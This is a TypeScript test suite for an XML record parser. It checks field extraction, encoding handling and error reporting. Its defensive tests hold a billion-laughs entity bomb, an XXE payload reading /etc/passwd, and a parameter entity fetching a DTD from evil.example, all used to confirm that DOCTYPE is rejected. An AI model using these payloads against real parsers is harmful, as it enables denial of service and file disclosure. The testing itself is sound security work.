import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parseSingleRecord } from './parse-single-record';
import { rejectionOf } from '../test/support';

const xml = (text: string | Buffer) =>
  parseSingleRecord(typeof text === 'string' ? Buffer.from(text) : text, 'xml');

describe('parseSingleRecord xml', () => {
  it('reads the child elements of the root as fields, all as text', () => {
    const record = xml(`<?xml version="1.0" encoding="UTF-8"?>
<call>
  <datetime>2021-05-11T21:59:59Z</datetime>
  <email>email.of.user@test.com</email>
  <filename>sftp/path/to/recording.mp3</filename>
  <duration>0093</duration>
  <recorded>true</recorded>
</call>`);
    assert.deepEqual(record, {
      datetime: '2021-05-11T21:59:59Z',
      email: 'email.of.user@test.com',
      filename: 'sftp/path/to/recording.mp3',
      duration: '0093',
      recorded: 'true',
    });
  });

  it('reads attributes of the root as fields too', () => {
    assert.deepEqual(xml('<call id="0042" direction="in"><email>a@b.c</email></call>'), {
      id: '0042',
      direction: 'in',
      email: 'a@b.c',
    });
  });

  it('decodes character references and CDATA, and drops namespace prefixes', () => {
    const record = xml(
      '<c:call xmlns:c="urn:x"><c:note>Caf&#233; &amp; &lt;bar&gt;</c:note><raw><![CDATA[<b>1</b>]]></raw></c:call>',
    );
    assert.deepEqual(record, { note: 'Café & <bar>', raw: '<b>1</b>' });
  });

  it('reads empty elements as empty text and xsi:nil as null', () => {
    const record = xml(
      '<call xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><a/><b></b><c xsi:nil="true"/></call>',
    );
    assert.deepEqual(record, { a: '', b: '', c: null });
  });

  it('refuses a child with child elements, naming it', () => {
    const reason = rejectionOf(() => xml('<call><agent><name>x</name></agent></call>'));
    assert.equal(reason.code, 'nested-field');
    assert.equal(reason.field, 'agent');
  });

  it('refuses a repeated child, naming it, as JSON and YAML refuse a repeated key', () => {
    const reason = rejectionOf(() => xml('<call><tag>a</tag><tag>b</tag></call>'));
    assert.equal(reason.code, 'parse-error');
    assert.equal(reason.field, 'tag');
    assert.match(reason.message, /field "tag" is given more than once/);
  });

  it('refuses a field given both as attribute and as child', () => {
    const reason = rejectionOf(() => xml('<call email="a@b.c"><email>d@e.f</email></call>'));
    assert.equal(reason.code, 'parse-error');
    assert.equal(reason.field, 'email');
  });

  it('refuses attributes on a field element rather than dropping them', () => {
    const reason = rejectionOf(() => xml('<call><duration unit="s">30</duration></call>'));
    assert.equal(reason.code, 'nested-field');
    assert.equal(reason.field, 'duration');
  });

  it('refuses the billion-laughs entity bomb without expanding it', () => {
    const bomb = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<call><note>&lol9;</note></call>`;
    const reason = rejectionOf(() => xml(bomb));
    assert.equal(reason.code, 'parse-error');
    assert.equal(reason.message, 'DOCTYPE is not allowed');
  });

  it('refuses external and parameter entities', () => {
    const external =
      '<?xml version="1.0"?><!DOCTYPE call [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><call><a>&xxe;</a></call>';
    const parameter = '<!DOCTYPE call [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><call/>';
    const bareDoctype = '<!DOCTYPE call SYSTEM "call.dtd"><call/>';
    for (const text of [external, parameter, bareDoctype]) {
      const reason = rejectionOf(() => xml(text));
      assert.equal(reason.code, 'parse-error');
      assert.equal(reason.message, 'DOCTYPE is not allowed');
    }
  });

  it('reports invalid XML with its line', () => {
    const reason = rejectionOf(() => xml('<call>\n<a>1</b>\n</call>'));
    assert.equal(reason.code, 'parse-error');
    assert.match(reason.message, /invalid XML/);
    assert.equal(reason.line, 2);
  });

  it('refuses more than one root element, and a root holding only text', () => {
    assert.match(rejectionOf(() => xml('<a>1</a><b>2</b>')).message, /root/);
    assert.match(rejectionOf(() => xml('<a/><b/>')).message, /root/);
    assert.match(rejectionOf(() => xml('<a>1</a><a>2</a>')).message, /root/);
    assert.equal(rejectionOf(() => xml('<call>just text</call>')).code, 'parse-error');
    assert.equal(rejectionOf(() => xml('')).code, 'parse-error');
  });

  it('reads an empty root as an empty record', () => {
    assert.deepEqual(xml('<call/>'), {});
  });

  it('honours the encoding the declaration names', () => {
    const latin1 = Buffer.from(
      '<?xml version="1.0" encoding="ISO-8859-1"?><call><name>José</name></call>',
      'latin1',
    );
    assert.deepEqual(xml(latin1), { name: 'José' });
  });
});
